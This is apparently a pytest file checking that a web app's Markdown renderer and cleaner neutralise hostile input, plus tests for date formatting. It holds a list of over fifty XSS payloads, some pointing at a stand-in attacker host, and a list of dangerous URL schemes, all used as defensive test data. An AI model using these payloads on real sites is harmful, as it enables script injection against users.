"""Dates as people write them, and Markdown with nothing in it that could act."""

import re
from datetime import UTC, date, datetime

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lms.web import filters
from lms.web.markup import BOXES, MOST_CHARACTERS, TAGS, clean, render

SUMMER, WINTER = datetime(2026, 7, 1, 23, 30, tzinfo=UTC), datetime(2026, 3, 3, 14, 3, tzinfo=UTC)
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "![a](https://evil.example/pixel.gif)",
    "![a](x 'onerror=alert(1)')",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><img src onerror=alert(1)></math>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object>",
    "<embed src=x>",
    "<form action=//evil.example><input name=q></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](http://evil.example)",
    "[x](file:///etc/passwd)",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "<a href='https://ok.example' target=_blank>x</a>",
    "<div style='background:url(x)'>x</div>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
    "<p id=csrf_token name=form_token>x</p>",
    "<div class='admonition nhsuk-button'>x</div>",
    "`<script>`<script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "    \n<script>alert(1)</script>",
    '!!! try "<img src=x onerror=alert(1)>"\n    x',
    "x {: onclick=alert(1) }",
    "# x {#csrf_token onclick=alert(1) style=color:red}",
    "[x]: javascript:alert(1)\n[y][x]",
    "<javascript:alert(1)>",
    "\x00<script>alert(1)</script>",
]
HOSTILE = ("javascript:", "vbscript:", "data:", "file:", "http:")


def assert_harmless(html: str) -> None:
    """Only listed tags, only three attributes, only safe addresses."""
    tree = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    for element in tree.iter():
        if not isinstance(element.tag, str) or element.tag == "DOCUMENT_FRAGMENT":
            continue
        assert element.tag in TAGS, element.tag
        assert set(element.attrib) <= {"href", "rel", "class", "scope"}, element.attrib
        assert not re.sub(r"[\t\r\n\x00]", "", element.get("href") or "").strip().lower().startswith(HOSTILE), element.attrib
        assert set((element.get("class") or "").split()) <= {"admonition", "admonition-title", *BOXES}


def test_there_are_more_than_forty_attacks() -> None:
    assert len(set(PAYLOADS)) > 40


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("around", ["{}", "A line.\n\n{}\n\nAnother.", "* item {}", "| a |\n|---|\n| {} |"])
def test_an_attack_does_not_survive(payload: str, around: str) -> None:
    assert_harmless(render(around.format(payload)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cleaning_is_the_last_step_and_stays_done(payload: str) -> None:
    """safety.md 2.1, class 5: something after the cleaner undid it."""
    once = clean(payload)
    assert_harmless(once)
    assert clean(once) == once


@settings(max_examples=150, deadline=None, database=None)
@given(st.lists(st.sampled_from([*PAYLOADS, "\n", "\n\n", "    ", "* ", "> ", "<", ">", '"', "`", "*", "a"]), max_size=6).map("".join))
def test_attacks_put_together_do_not_survive_either(text: str) -> None:
    assert_harmless(render(text))


def test_too_long_a_text_is_refused_before_it_is_parsed() -> None:
    assert render("x" * MOST_CHARACTERS)
    with pytest.raises(ValueError, match="60000"):
        render("x" * (MOST_CHARACTERS + 1))


def test_what_our_writers_use_comes_through() -> None:
    html = render('## Listening\n\n!!! try "Try this"\n    *Wait* [first](https://www.nhs.uk).\n\n| a | b |\n|---|---|\n| 1 | 2 |\n')
    for piece in (
        "<h2>Listening</h2>",
        'class="admonition try"',
        "<em>Wait</em>",
        'href="https://www.nhs.uk"',
        'rel="noopener noreferrer nofollow"',
        "<td>1</td>",
    ):
        assert piece in html, piece


def test_days_and_moments_are_written_out() -> None:
    assert filters.day(WINTER) == "3 March 2026"
    assert filters.moment(WINTER) == "3 March 2026, 14:03 GMT"
    assert filters.clock_time(WINTER) == "14:03"
    assert filters.plain_day(date(2026, 1, 9)) == "9 January 2026"


def test_a_moment_late_on_a_summer_evening_belongs_to_the_next_day() -> None:
    assert filters.day(SUMMER) == "2 July 2026"
    assert filters.moment(SUMMER) == "2 July 2026, 00:30 BST"
